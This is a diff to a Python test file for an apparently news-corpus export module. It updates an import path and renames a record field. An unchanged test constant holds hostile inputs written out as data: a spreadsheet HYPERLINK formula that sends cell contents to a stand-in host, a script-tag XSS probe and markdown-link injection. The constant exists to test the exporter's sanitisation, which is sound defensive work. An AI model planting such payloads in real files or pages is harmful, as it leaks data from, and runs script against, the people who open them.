@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from cli.main import main
 from index.export import (
     FIELDS,
     ExportPathError,
@@ -24,7 +25,6 @@ from index.export import (
     to_markdown,
     write_atomic,
 )
-from tui.cli import main
 
 EVIL_TITLE = '=HYPERLINK("http://x/?"&A1,"click") <script>alert(1)</script> [a](http://x) {\\x}'
 HOSTILE = (
@@ -41,7 +41,7 @@ HOSTILE = (
 
 def _record(**kw: str | None) -> ExportRecord:
     base: dict[str, str | None] = dict(
-        id="abc123", title="T", date="2021-01-13", date_source="dateline", source="heise",
+        id="abc123", title="T", date="2021-01-13", date_origin="dateline", source="heise",
         agency="dpa", author=None, language="de", corpus="/c", path="a.txt",
         passage="p", citation="c")
     base.update(kw)
